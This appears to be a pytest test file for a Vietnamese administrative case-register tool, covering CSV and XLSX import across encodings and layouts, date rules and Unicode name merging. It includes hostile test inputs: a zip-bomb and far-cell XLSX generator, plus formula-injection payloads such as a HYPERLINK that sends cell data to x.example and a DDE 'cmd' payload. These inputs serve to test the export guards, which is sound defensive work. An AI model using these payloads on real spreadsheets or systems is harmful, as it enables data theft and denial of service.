"""Real files in: the encodings and layouts Excel writes, hostile files, NFC names, one date rule,
export guards. Each bad input of issue 15 has its test here."""
import csv
import datetime as dt
import io
import json
import unicodedata
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core import ops
from core.files import casefile
from core.files import tabular
from core.domain import periods
from core.domain.cases import nfc
from db.store import Store

D = dt.date
VI_HEADER = ["Mã hồ sơ", "Tên thủ tục", "Lĩnh vực", "Người nộp", "Cán bộ tiếp nhận", "Ngày tiếp nhận",
             "Ngày hẹn trả", "Hình thức nộp", "Số hoá khi tiếp nhận", "Ngày có kết quả", "Số hoá kết quả"]
ROWS = [
    ["PK-1", "Đăng ký khai sinh", "Hộ tịch", "Nguyễn Thị Huyền", "Lê Văn An", "05/09/2023", "08/09/2023",
     "Trực tuyến", "1", "07/09/2023", "1"],
    ["PK-2", "Chứng thực bản sao từ bản chính", "Chứng thực", "Trần Quốc Việt", "Lê Văn An", "06/09/2023",
     "06/09/2023", "Trực tiếp", "1", "", "0"],
]


def to_cp1258(text: str) -> bytes:
    """Text as Windows-1258 writes it: base letters precomposed where the code page has them, tones as
    combining marks after them (the way Excel on a Vietnamese Windows saves "CSV")."""
    tones = "\u0300\u0301\u0303\u0309\u0323"
    out = b""
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            d = unicodedata.normalize("NFD", ch)
            base = unicodedata.normalize("NFC", "".join(c for c in d if c not in tones))
            out += (base + "".join(c for c in d if c in tones)).encode("cp1258")
    return out


def write_rows(path, rows, sep=","):
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def test_excel_unicode_text_utf16_tab_with_bom_is_read(store, tmp_path):
    text = write_rows(None, [VI_HEADER, *ROWS], sep="\t")
    p = tmp_path / "unicode.txt"
    p.write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))  # Excel: "Unicode Text (*.txt)"
    checked = casefile.check_file(store, p)
    assert checked.problems == [] and len(checked.cases) == 2
    assert "UTF-16" in checked.source and "tab" in checked.source
    assert ops.import_file(store, p).imported == 2
    assert {o["name"] for o in store.officers()} == {"Lê Văn An"}
    assert tabular.read_csv_bytes(text.encode("utf-16-le"), "x").encoding == "UTF-16 LE (không BOM)"


def test_cp1258_semicolon_csv_is_read_and_names_come_out_nfc(store, tmp_path):
    text = write_rows(None, [VI_HEADER, *ROWS], sep=";")
    data = to_cp1258(text)
    assert b"\xcc" in data or b"\xec" in data or b"\xd2" in data or b"\xf2" in data  # tones really combining
    p = tmp_path / "excel-vn.csv"
    p.write_bytes(data)
    checked = casefile.check_file(store, p)
    assert checked.problems == [], checked.problems
    assert "Windows-1258" in checked.source and "chấm phẩy" in checked.source
    ops.import_file(store, p)
    rows = {r["code"]: r for r in store.export_rows()}
    assert rows["PK-1"]["applicant"] == "Nguyễn Thị Huyền"
    assert unicodedata.is_normalized("NFC", rows["PK-1"]["applicant"])
    assert rows["PK-2"]["procedure"] == "Chứng thực bản sao từ bản chính"
    assert {o["name"] for o in store.officers()} == {"Lê Văn An"}


def test_cp1252_western_text_is_not_taken_for_vietnamese(tmp_path):
    rows = [["code", "applicant"], ["A-1", "Müller"], ["A-2", "São Paulo"], ["A-3", "però così"],
            ["A-4", "Françoise Ørsted"]]
    data = write_rows(None, rows, sep=";").encode("cp1252")
    table = tabular.read_csv_bytes(data, "western.csv")
    assert table.encoding == "Windows-1252"
    got = [values for _, values in table.rows]
    assert got[1:] == [r for r in rows[1:]]


def test_excel_sep_hint_line_sets_the_separator_and_is_not_a_row():
    text = "sep=;\r\n" + write_rows(None, [["a,b", "c"], ["1,5", "2"]], sep=";")
    table = tabular.read_csv_bytes(text.encode(), "hint.csv")
    assert table.separator == "dấu chấm phẩy (;)"
    assert list(table.rows) == [(1, ["a,b", "c"]), (2, ["1,5", "2"])]


def test_utf8_with_and_without_bom_are_named(tmp_path):
    text = write_rows(None, [VI_HEADER, *ROWS])
    assert tabular.read_csv_bytes(text.encode(), "a.csv").encoding == "UTF-8"
    assert tabular.read_csv_bytes(b"\xef\xbb\xbf" + text.encode(), "a.csv").encoding == "UTF-8 (có BOM)"


HEADER = "code,procedure,field,applicant,officer,received_date,due_date,processing_days,channel,digitized," \
         "resolved_date,result_digitized,has_fee,paid_online,e_certified,status"


def good_row(i: int) -> str:
    return f"PK-{i:04d},Đăng ký khai sinh,Hộ tịch,Người {i},Lê Văn An,2023-09-05,2023-09-08,,direct,1,,0,0,0,0,"


@pytest.mark.parametrize("broken,reason", [
    ('PK-BAD,"Đăng ký khai sinh,Hộ tịch,Người x,Lê Văn An,2023-09-05,,,direct,1,,0,0,0,0,', "ngoặc kép"),
    ("PK-BAD,Đăng ký khai sinh,Hộ tịch," + "x" * 1_000_000 + ",Lê Văn An,2023-09-05,,,direct,1,,0,0,0,0,",
     "32.767"),
])
def test_a_broken_csv_row_is_one_problem_and_every_later_row_is_still_read(store, tmp_path, broken, reason):
    # 100 data rows: row 3 of the file (the second data row) is broken, the 99 others are valid
    lines = [HEADER, good_row(1), broken, *[good_row(i) for i in range(2, 100)]]
    p = tmp_path / "broken.csv"
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    checked = casefile.check_file(store, p)
    assert [(pr.row, pr.column) for pr in checked.problems] == [(3, "-")]
    assert reason in checked.problems[0].reason
    assert len(checked.cases) == 99 and checked.rows[-1] == 101
    assert ops.import_file(store, p).imported == 0  # all or nothing
    result = ops.import_file(store, p, skip_invalid=True)
    assert result.imported == 99 and store.case_count() == 99


def test_row_numbers_after_a_line_break_inside_a_cell_are_the_spreadsheet_rows(store, tmp_path):
    lines = [HEADER, good_row(1).replace("Người 1", '"Người\nmột"'), good_row(2),
             good_row(3).replace("direct", "fax")]
    p = tmp_path / "multiline.csv"
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    checked = casefile.check_file(store, p)
    # Excel shows the header on row 1, the case with two lines in one cell on row 2: the bad one is row 4
    assert [(pr.row, pr.column) for pr in checked.problems] == [(4, "channel")]
    assert checked.cases[0]["applicant"] == "Người một"  # the line break became a space in the name


def test_a_half_written_last_row_is_refused_not_taken_as_blank_cells(store, tmp_path):
    p = tmp_path / "cut.csv"
    p.write_text("\n".join([HEADER, good_row(1), "PK-0002,Đăng ký khai sinh,Hộ tịch,Người 2,Lê Văn An,2023-09-05,"
                                                 "2023-09-08,,direct,1"]), encoding="utf-8")
    checked = casefile.check_file(store, p)
    assert len(checked.problems) == 1 and checked.problems[0].row == 3
    assert "dòng bị cắt" in checked.problems[0].reason and checked.problems[0].column == "resolved_date"
    p.write_text("\n".join([HEADER, good_row(1), "PK-0002,"]), encoding="utf-8")  # cut right after the code
    assert any(x.row == 3 and x.column == "field" and "dòng bị cắt" in x.reason
               for x in casefile.check_file(store, p).problems)


def test_data_under_a_blank_header_is_a_problem_until_mapped(store, tmp_path):
    header = VI_HEADER + [""]
    rows = [r + ["14:30"] for r in ROWS]
    p = tmp_path / "blank.csv"
    p.write_text(write_rows(None, [header, *rows]), encoding="utf-8")
    with pytest.raises(casefile.CaseFileError) as exc:  # even with --skip-invalid: the layout needs a word
        ops.import_file(store, p, skip_invalid=True)
    assert [str(pr) for pr in exc.value.problems] == [
        "row 1, column L: cột L có dữ liệu (từ dòng 2) nhưng không có tiêu đề: đặt tiêu đề, hoặc ghép cột "
        "(L=khoá, L=- để bỏ qua)"]
    assert store.case_count() == 0
    from core.files.headers import Mapping

    assert casefile.check_file(store, p, mapping=Mapping({"L": "-"})).problems == []


def test_a_file_with_no_recognisable_header_names_what_it_read(store, tmp_path):
    p = tmp_path / "junk.csv"
    p.write_text("a;b;c\n1;2;3\n", encoding="utf-8")
    with pytest.raises(casefile.CaseFileError) as exc:
        casefile.check_file(store, p)
    assert "không tìm thấy dòng tiêu đề" in str(exc.value) and "chấm phẩy" in str(exc.value)


# ---- hostile XLSX ------------------------------------------------------------------------

def _far_cell_xlsx(path, declare=True):
    wb = Workbook()
    ws = wb.active
    ws["A1"] = "code"
    ws["XFD1048576"] = "x"
    wb.save(path)
    if not declare:  # the dimension says A1 only: the cells themselves must be checked
        src = zipfile.ZipFile(path)
        parts = {i.filename: src.read(i) for i in src.infolist()}
        src.close()
        sheet = "xl/worksheets/sheet1.xml"
        parts[sheet] = parts[sheet].replace(b'<dimension ref="A1:XFD1048576"/>', b'<dimension ref="A1"/>')
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for name, data in parts.items():
                out.writestr(name, data)
    return path


@pytest.mark.parametrize("declare", [True, False])
def test_an_xlsx_with_one_value_in_xfd1048576_is_refused_before_reading(store, tmp_path, declare):
    p = _far_cell_xlsx(tmp_path / "far.xlsx", declare)
    assert p.stat().st_size < 10_000
    with pytest.raises(casefile.CaseFileError) as exc:
        casefile.check_file(store, p)
    assert "XFD1048576" in str(exc.value) and "không đọc" in str(exc.value)


BOMB = 40 * 1024 * 1024  # with the limit lowered to 32 MB the test stays quick; the real limit works the same


def _bomb(path, lie=False):
    wb = Workbook()
    wb.active["A1"] = "code"
    base = io.BytesIO()
    wb.save(base)
    src = zipfile.ZipFile(base)
    sheet_size = 0
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"</sheetData><!--" + b" " * BOMB + b"-->")
                sheet_size = len(data)
            out.writestr(info.filename, data)
    if lie:  # the local and central headers claim the sheet is 1 KB: only its checksum can tell
        raw = bytearray(path.read_bytes())
        size = sheet_size.to_bytes(4, "little")
        assert raw.count(size) == 2
        raw = raw.replace(size, (1024).to_bytes(4, "little"))
        path.write_bytes(bytes(raw))
    return path


@pytest.mark.parametrize("lie", [False, True])
def test_a_zip_bomb_is_refused(store, tmp_path, monkeypatch, lie):
    monkeypatch.setattr(tabular, "MAX_UNCOMPRESSED", 32 * 1024 * 1024)
    p = _bomb(tmp_path / "bomb.xlsx", lie)
    assert p.stat().st_size < 100_000
    with pytest.raises(casefile.CaseFileError) as exc:
        casefile.check_file(store, p)
    assert "Excel" in str(exc.value)
    assert ("bị hỏng" if lie else "giải nén ra 40 MB") in str(exc.value)


def test_hostile_xlsx_from_the_command_line_is_a_message_not_a_crash(tmp_path):
    from tests.test_cli import cli

    p = _far_cell_xlsx(tmp_path / "far.xlsx")
    r = cli("import", str(p), db=tmp_path / "x.db")
    assert r.returncode == 1 and "XFD1048576" in r.stderr and "Traceback" not in r.stderr
    r = cli("import", str(tmp_path / "missing.csv"), db=tmp_path / "x.db")
    assert r.returncode == 1 and "Traceback" not in r.stderr


# ---- layouts -------------------------------------------------------------------------------

def test_register_book_layout_with_title_rows_and_a_two_row_header(store, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["UBND XÃ PHƯỢNG KỲ"])
    ws.append(["SỔ THEO DÕI HỒ SƠ"])
    ws.append([])
    ws.append(["STT", "Mã hồ sơ", "Tên thủ tục hành chính", "Tên cá nhân/tổ chức", "Địa chỉ", "Số điện thoại",
               "Nhận hồ sơ", None, "Hẹn trả kết quả", "Ngày có kết quả", "Trả kết quả", None, "Ghi chú"])
    ws.append([None, None, None, None, None, None, "Ngày", "Giờ", None, None, "Ngày, giờ", "Ký nhận", None])
    ws.merge_cells("G4:H4")
    ws.merge_cells("K4:L4")
    ws.append(["(1)", "(2)", "(3)", "(4)", "(5)", "(6)", "(7)", "(8)", "(9)", "(10)", "(11)", "(12)", "(13)"])
    ws.append([1, "PK-9", "Đăng ký khai sinh", "Nguyễn Văn Bình", "Thôn 1", "0912", dt.datetime(2023, 9, 5, 14, 30),
               "14:30", "08/09/2023", "07/09/2023 10:15", "08/09/2023 08:00", "Bình", ""])
    ws.append([2, "PK-10", "Đăng ký kết hôn", "Lê Thị Hoa", "Thôn 2", "", "06/09/2023 09:00", "09:00",
               dt.datetime(2023, 9, 11), None, None, None, "chưa xong"])
    p = tmp_path / "so-theo-doi.xlsx"
    wb.save(p)
    from core.files.headers import Mapping

    # the register book has no officer, channel nor digitization: one value for the whole file
    checked = casefile.check_file(store, p, mapping=Mapping(fills={"officer": "Lê Văn An", "channel": "Trực tiếp",
                                                                   "digitized": "0"}))
    assert checked.problems == [], checked.problems
    assert checked.layout.header_rows == [4, 5]
    assert checked.layout.names[6] == "Nhận hồ sơ Ngày"
    assert checked.layout.suggested[10] == "_returned" and checked.layout.suggested[11] == "-"  # "Ký nhận"
    by_code = {c["code"]: c for c in checked.cases}
    assert by_code["PK-9"]["received_date"] == D(2023, 9, 5)
    assert by_code["PK-9"]["resolved_date"] == D(2023, 9, 7)  # "Ngày có kết quả", not the return day
    assert by_code["PK-10"]["due_date"] == D(2023, 9, 11) and by_code["PK-10"]["resolved_date"] is None
    assert by_code["PK-9"]["applicant"] == "Nguyễn Văn Bình"
    # without the values the message names what is missing and how to give it
    with pytest.raises(casefile.CaseFileError) as exc:
        casefile.check_file(store, p)
    assert [p.column for p in exc.value.problems] == ["officer", "channel"]  # digitized: unknown, not required
    assert exc.value.problems[0].row == 4 and "giá trị chung" in exc.value.problems[0].reason


def test_map_on_the_command_line_and_a_saved_mapping_by_name(tmp_path):
    from tests.test_cli import cli

    rows = [["Số biên nhận", "TTHC", "Người tiếp nhận", "Ngày nộp", "Kênh", "Scan", "Ghi chú"],
            ["A-1", "Đăng ký khai sinh", "Lê Văn An", "05/09/2023", "Trực tuyến", "1", "x"]]
    p = tmp_path / "other.csv"
    p.write_text(write_rows(None, rows), encoding="utf-8")
    db = tmp_path / "m.db"
    r = cli("import", str(p), db=db)
    assert r.returncode == 1 and "channel" in r.stderr and "Hình thức nộp" in r.stderr
    r = cli("import", str(p), "--map", "Scan=digitized,Kênh=channel", "--save-map", "hệ thống tỉnh", db=db)
    assert r.returncode == 0, r.stderr
    assert "Đã nhập 1 hồ sơ." in r.stdout
    rows[1][0] = "A-2"
    p.write_text(write_rows(None, rows), encoding="utf-8")
    r = cli("import", str(p), "--map", "hệ thống tỉnh", db=db)
    assert r.returncode == 0 and "Đã nhập 1 hồ sơ." in r.stdout, r.stderr
    r = cli("import", str(p), "--map", "không có", db=db)
    assert r.returncode == 2 and "không có" in r.stderr


@pytest.mark.parametrize("word,status,problem", [
    ("Đã trả kết quả", None, None),
    ("Đang xử lý", None, None),
    ("Chờ bổ sung", None, None),
    ("Quá hạn", None, None),
    ("Rút hồ sơ", "withdrawn", None),
    ("Từ chối", None, "chưa được hỗ trợ") if "refused" not in casefile.ACCEPTED_STATUSES else
    ("Từ chối", "refused", None),
    ("Mất", None, "không hợp lệ"),
])
def test_status_words_of_production_systems(store, tmp_path, word, status, problem):
    row = good_row(1).replace("2023-09-08,,direct,1,,0", "2023-09-08,,direct,1,2023-09-07,0")
    p = tmp_path / "s.csv"
    p.write_text(HEADER + "\n" + row.rsplit(",", 1)[0] + "," + word + "\n", encoding="utf-8")
    checked = casefile.check_file(store, p)
    if problem:
        assert checked.problems and problem in checked.problems[0].reason
    else:
        assert checked.problems == [] and checked.cases[0]["status"] == status


def test_resolved_status_without_a_resolved_date_is_a_problem(store, tmp_path):
    p = tmp_path / "s.csv"
    p.write_text(HEADER + "\n" + good_row(1)[:-1] + ",Đã có kết quả\n", encoding="utf-8")
    assert [str(x) for x in casefile.check_file(store, p).problems] == [
        "row 2, column resolved_date: trạng thái 'Đã có kết quả' mà chưa có ngày có kết quả"]


# ---- the one date rule -----------------------------------------------------------------

@pytest.mark.parametrize("column,value,says", [
    ("received_date", "2031-01-05", "ở tương lai"),
    ("resolved_date", "2099-01-05", "ở tương lai"),
    ("resolved_date", "31/12/9999", "ở tương lai"),
    ("received_date", "1999-12-31", "trước năm 2000"),
])
def test_future_and_ancient_dates_are_refused_naming_row_and_column(store, tmp_path, column, value, says):
    row = good_row(1).split(",")
    row[HEADER.split(",").index(column)] = value
    if column == "received_date":
        row[6] = ""  # due date computed
    p = tmp_path / "d.csv"
    p.write_text(HEADER + "\n" + ",".join(row) + "\n", encoding="utf-8")
    problems = [str(x) for x in ops.import_file(store, p).checked.problems]
    assert any(x.startswith(f"row 2, column {column}: ") and says in x for x in problems), problems
    assert store.case_count() == 0


def test_the_store_refuses_9999_and_a_planted_one_breaks_neither_indicators_nor_report(store, tmp_path):
    from tests.conftest import case
    from db.imports import StoreDateError

    with pytest.raises(StoreDateError, match="9999"):
        store.insert_cases([case("X-1", resolved_date=D(9999, 12, 31))])
    assert store.case_count() == 0
    store.insert_cases([case("X-1"), case("X-2", resolved_date=D(2023, 9, 6))])
    # a row edited behind the program's back
    store.db.execute("UPDATE cases SET resolved_date = '9999-12-31' WHERE code = 'X-1'")
    from tests.test_cli import cli

    for args in (["indicators", "--period", "2023-09", "--json"], ["report", "--period", "2023-Q3", "--text"]):
        r = cli(*args, db=store.path)
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    data = json.loads(cli("indicators", "--period", "2023-09", "--json", db=store.path).stdout)
    assert data["counts"]["received"] == 2 and data["counts"]["resolved"] == 1


# ---- Unicode NFC -----------------------------------------------------------------------

NFD_AN = unicodedata.normalize("NFD", "Lê Văn An")


def test_names_with_combining_accents_are_one_name_everywhere(store, tmp_path):
    from core.domain import indicators
    from core.queries import figures
    from core.domain import periods
    from db.register import RegisterFilter

    lines = [HEADER, good_row(1), good_row(2).replace("Lê Văn An", NFD_AN).replace("Hộ tịch",
             unicodedata.normalize("NFD", "Hộ tịch")).replace("Người 2", unicodedata.normalize("NFD", "Đỗ Thị Hằng"))]
    p = tmp_path / "nfd.csv"
    p.write_bytes("\n".join(lines).encode("utf-8"))
    assert ops.import_file(store, p).imported == 2
    assert [o["name"] for o in store.officers()] == ["Lê Văn An"]
    assert len([f for f in store.fields() if f["name"] == "Hộ tịch"]) == 1
    result = figures.compute(store, periods.parse("2023-09"), indicators.Filters(officer=NFD_AN))
    assert result.counts["received"] == 2
    found = store.cases.page(RegisterFilter(search=unicodedata.normalize("NFD", "Đỗ Thị Hằng")))
    assert [r["code"] for r in found] == ["PK-0002"]
    assert store.add_officer(unicodedata.normalize("NFD", "Phạm Thị Lan")) == store.officer_id("Phạm Thị Lan")


def test_the_migration_merges_look_alike_names_already_stored(tmp_path):
    from tests.conftest import case
    from db import migrations

    store = Store.open(tmp_path / "old.db")
    store.insert_cases([case("A-1", officer="Lê Văn An"), case("A-2", officer="Lê Văn An")])
    # how an older version stored a decomposed name: a second officer, field and procedure
    db = store.db
    nfd_officer = db.table("officers").insert({"name": NFD_AN}).last_pk
    nfd_field = db.table("fields").insert({"name": unicodedata.normalize("NFD", "Chứng thực")}).last_pk
    proc = db.execute("SELECT id, field_id FROM procedures WHERE name = 'Chứng thực bản sao từ bản chính'").fetchone()
    nfd_proc = db.table("procedures").insert({"name": unicodedata.normalize("NFD", "Chứng thực bản sao từ bản chính"),
                                              "field_id": nfd_field}).last_pk
    store.insert_cases([case("A-3", officer="Trần Văn Hùng")])
    db.execute("UPDATE cases SET officer_id = ?, field_id = ?, procedure_id = ?, applicant = ? WHERE code = 'A-3'",
               [nfd_officer, nfd_field, nfd_proc, unicodedata.normalize("NFD", "Nguyễn Văn Ánh")])
    store.audit.rehash_case(db.execute("SELECT id FROM cases WHERE code = 'A-3'").fetchone()[0])
    with db.atomic():  # the older version logged its change (check compares the tables with the log: issue 12)
        store.audit.record("update", "case", "A-3", None, {"officer_id": nfd_officer})
    assert store.check() == []
    audit_before = len(store.audit.entries())

    # the file as an older version left it: the migration not yet applied; opening it applies it
    db.execute("DELETE FROM _sqlite_migrations WHERE name = 'm014_nfc_names'")
    db.execute(f"PRAGMA user_version = {migrations.SCHEMA_VERSION - 1}")
    store.close()
    store = Store.open(tmp_path / "old.db")
    db = store.db
    assert store.schema_version == migrations.SCHEMA_VERSION
    assert list((tmp_path / "backups").glob("*before-migration*")) or list(tmp_path.glob("*before*"))

    officers = [o["name"] for o in store.officers()]
    assert officers.count("Lê Văn An") == 1 and len(officers) == 2  # Lê Văn An and Trần Văn Hùng
    an = store.officer_id("Lê Văn An")
    assert {r[0] for r in db.execute("SELECT officer_id FROM cases WHERE code IN ('A-1', 'A-2', 'A-3')")} == {an}
    assert [r[0] for r in db.execute("SELECT procedure_id FROM cases WHERE code = 'A-3'")] == [proc[0]]
    assert len([f for f in store.fields() if nfc(f["name"]) == "Chứng thực"]) == 1
    assert db.execute("SELECT applicant FROM cases WHERE code = 'A-3'").fetchone()[0] == "Nguyễn Văn Ánh"
    assert store.check() == []  # row hashes and the audit chain still hold
    merges = [e for e in store.audit.entries() if e["action"] == "merge look-alike names"]
    assert {e["entity"] for e in merges} == {"officer", "procedure", "field"}
    assert len(store.audit.entries()) > audit_before
    from core.domain import indicators
    from core.queries import figures
    from core.domain import periods

    counts = figures.compute(store, periods.parse("2023-09"), indicators.Filters(officer="Lê Văn An")).counts
    assert counts["received"] == 3  # not half of her cases


# ---- exports never carry a live formula -------------------------------------------------

EVIL = ['=HYPERLINK("http://x.example/?a="&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTab", "\rCR"]


def _evil_store(tmp_path):
    from tests.conftest import case

    store = Store.open(tmp_path / "evil.db")
    store.insert_cases([case(f"E-{i}", applicant=name) for i, name in enumerate(EVIL)])
    return store


def test_case_csv_export_guards_formulas_and_still_round_trips(tmp_path):
    store = _evil_store(tmp_path)
    out = tmp_path / "all.csv"
    casefile.export_file(store, out)
    cells = [row[3] for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))][1:]
    # names are stored NFC with spaces trimmed, so "\tTab" is stored "Tab"; the four formulas get the apostrophe
    assert cells == ["'" + e for e in EVIL[:4]] + ["Tab", "CR"]
    from core.files.spreadsheet import csv_text, unguard

    assert [csv_text(x) for x in ("\tx", "\rx", "x-1", 5, None)] == ["'\tx", "'\rx", "x-1", 5, None]
    assert unguard("'=1") == "=1" and unguard("'abc") == "'abc"
    second = Store.open(tmp_path / "again.db")
    assert ops.import_file(second, out).imported == len(EVIL)
    assert [r["applicant"] for r in second.export_rows()] == [r["applicant"] for r in store.export_rows()]


def test_case_xlsx_report_and_dashboard_xlsx_write_text_cells_never_formulas(tmp_path):
    from core.queries import dashboard
    from core.domain import periods
    from core.queries import report
    from core.documents import report as report_doc

    store = _evil_store(tmp_path)
    out = tmp_path / "all.xlsx"
    casefile.export_file(store, out)
    period = periods.parse("2023-09")
    report_doc.to_xlsx(report.build(store, period, today=D(2023, 9, 30)), tmp_path / "report.xlsx")
    from core.domain.workdays import WorkCalendar

    d = dashboard.build(store, "month", period, WorkCalendar(), today=D(2023, 9, 30))
    dashboard.to_xlsx(d, tmp_path / "dash.xlsx", store, D(2023, 9, 30))
    for name in ("all.xlsx", "report.xlsx", "dash.xlsx"):
        wb = load_workbook(tmp_path / name)
        seen = 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK"):
                        seen += 1
                        assert cell.data_type == "s"
        assert seen == 1, name  # the applicant, in the case list or the overdue list


# ---- month over month -----------------------------------------------------------------

def test_month_over_month_with_update_from_the_command_line(tmp_path):
    from tests import monthly
    from tests.test_cli import cli

    db = tmp_path / "office.db"
    monthly.write(tmp_path / "thang9.csv", monthly.september())
    monthly.write(tmp_path / "thang10.csv", monthly.october())
    r = cli("import", str(tmp_path / "thang9.csv"), db=db)
    assert r.returncode == 0 and "Đã nhập 10 hồ sơ." in r.stdout, r.stderr
    # without --update, October is refused whole: S01–S10 are already stored (and nothing changes)
    r = cli("import", str(tmp_path / "thang10.csv"), db=db)
    assert r.returncode == 1 and "--update" in r.stderr
    store = Store.open(db)
    ops.approve_quarter(store, periods.parse("2026-Q3"), "Chủ tịch")
    store.close()
    r = cli("import", str(tmp_path / "thang10.csv"), "--update", db=db)
    assert r.returncode == 0, r.stderr
    assert "Mới: 4 hồ sơ; cập nhật: 7; không đổi: 2." in r.stdout
    assert "S02 (dòng 3): digitized: 0 → 1" in r.stdout
    assert "S08 (dòng 8): resolved_date: (trống) → 09/10/2026" in r.stdout
    assert "S03 (dòng 4): channel: Trực tiếp → Trực tuyến" in r.stdout
    assert r.stderr.count("Chú ý:") == 7 and "2026-Q3" in r.stderr  # every S case was received in Q3
    store = Store.open(db)
    monthly.check_indicators(store)
    monthly.check_audit(store)
    assert store.case_count() == 14
    store.close()
    r = cli("import", str(tmp_path / "thang10.csv"), "--update", db=db)  # the same file again: nothing to do
    assert "Mới: 0 hồ sơ; cập nhật: 0; không đổi: 13." in r.stdout


def test_an_update_that_breaks_a_rule_changes_nothing(store, tmp_path):
    from tests import monthly

    monthly.write(tmp_path / "thang9.csv", monthly.september())
    ops.import_file(store, tmp_path / "thang9.csv")
    rows = monthly.october()
    rows[6][9] = "01/09/2026"  # S07 resolved before it was received
    monthly.write(tmp_path / "thang10.csv", rows)
    before = list(store.export_rows())
    result = ops.import_file(store, tmp_path / "thang10.csv", update=True)
    assert not result.written and [str(p) for p in result.checked.problems] == [
        "row 7, column resolved_date: ngày có kết quả 01/09/2026 trước ngày tiếp nhận 07/09/2026"]
    assert list(store.export_rows()) == before


def test_a_bulk_update_keeps_the_monthly_totals_right(store):
    from db import imports
    from db.stats import add_stats_of_new_cases
    from tests.conftest import case

    n = imports.BULK + 100
    store.insert_cases([case(f"B-{i}", received_date=D(2023, 9, 1 + i % 28), due_date=D(2023, 10, 2))
                        for i in range(n)])
    ids = {r[0]: r[1] for r in store.db.execute("SELECT code, id FROM cases")}
    updates = [(ids[f"B-{i}"], {"channel": 2, "resolved_date": D(2023, 10, 1 + i % 5), "officer": "Lê Văn An",
                                "field": None if i % 3 else "Hộ tịch"}) for i in range(n - 50)]
    assert store.imports.apply([], updates) == (0, n - 50)

    def totals():
        out = {}
        for table in ("stats_received", "stats_resolved"):
            for row in store.db.execute(f"SELECT * FROM {table}"):
                if any(row[3:]):
                    out[(table, *row[:3])] = row[3:]
        return out

    kept = totals()
    for table in ("stats_received", "stats_resolved"):
        store.db.execute(f"DELETE FROM {table}")
    add_stats_of_new_cases(store.db, 0)  # rebuilt from the cases themselves
    assert totals() == kept
    assert store.check() == []
    assert "cases_stats_update" in {r[0] for r in store.db.execute("SELECT name FROM sqlite_master")}


def test_a_map_item_may_name_a_header_with_a_comma_and_bad_items_are_named():
    from core.files import headers

    m = headers.parse_map("Có phí, lệ phí=has_fee,Kênh=channel, G=-", casefile.KEYS)
    assert m.columns == {"Có phí, lệ phí": "has_fee", "Kênh": "channel", "G": "-"}
    with pytest.raises(headers.MappingError, match="'chanel' không phải cột"):
        headers.parse_map("Kênh=chanel", casefile.KEYS)
    with pytest.raises(headers.MappingError, match="'xyz'"):
        headers.parse_map("Kênh=channel,xyz", casefile.KEYS)


def test_notes_under_the_table_are_named_not_judged_but_a_row_without_code_above_a_case_is(store, tmp_path):
    header = VI_HEADER + [""]
    rows = [header, ROWS[0] + [""], ["", "", "", "", "", "", "", "", "", "", "", ""], ROWS[1] + [""],
            ["Tổng cộng: 02 hồ sơ"] + [""] * 11, [""] * 9 + ["Người lập biểu", "", "(ký)"]]
    p = tmp_path / "footer.csv"
    p.write_text(write_rows(None, rows), encoding="utf-8")
    checked = casefile.check_file(store, p)
    assert checked.problems == [] and len(checked.cases) == 2 and checked.total_rows == 2
    assert casefile.notes_text(checked.notes) == (
        "Bỏ qua 2 dòng cuối không phải hồ sơ (dòng 5: 'Tổng cộng: 02 hồ sơ'; dòng 6: 'Người lập biểu').")
    rows.insert(2, ["PK-7", ""] + [""] * 10)  # a case row that lost its procedure and date: not a note
    p.write_text(write_rows(None, rows), encoding="utf-8")
    checked = casefile.check_file(store, p)
    assert {(x.row, x.column) for x in checked.problems} >= {(3, "procedure"), (3, "received_date")}


def test_an_update_carries_the_columns_of_a_case_life_refusals_and_the_paused_due_date(store, tmp_path):
    from tests import monthly

    monthly.write(tmp_path / "thang9.csv", monthly.september())
    ops.import_file(store, tmp_path / "thang9.csv")
    rows = monthly.october()
    header = rows[0] + ["Ngày yêu cầu bổ sung", "Ngày nhận bổ sung"]
    body = []
    for r in rows[1:]:
        extra = ["", ""]
        if r[0] == "S09":  # asked for papers on Friday 18/09, brought on Wednesday 23/09: 3 working days
            extra = ["18/09/2026", "23/09/2026"]
        if r[0] == "S10":
            r = list(r)
            r[9], r[13] = "01/10/2026", "Từ chối"  # refused on 01/10: the status word of the province's system
        body.append(r + extra)
    monthly.write(tmp_path / "thang10.csv", [header, *body])
    result = ops.import_file(store, tmp_path / "thang10.csv", update=True)
    assert result.checked.problems == [] and result.updated == 9
    by_code = {u["code"]: u["changes"] for u in result.checked.updates}
    assert by_code["S10"]["status"] == (None, "refused")
    assert by_code["S09"]["paused_days"] == (0, 3)
    s09 = store.db.execute("SELECT paused_days, due_date, paused_due FROM cases WHERE code = 'S09'").fetchone()
    # due Monday 05/10, moved on by 3 working days: Thursday 08/10
    assert s09 == (3, "2026-10-05", "2026-10-08")
    assert store.check() == []
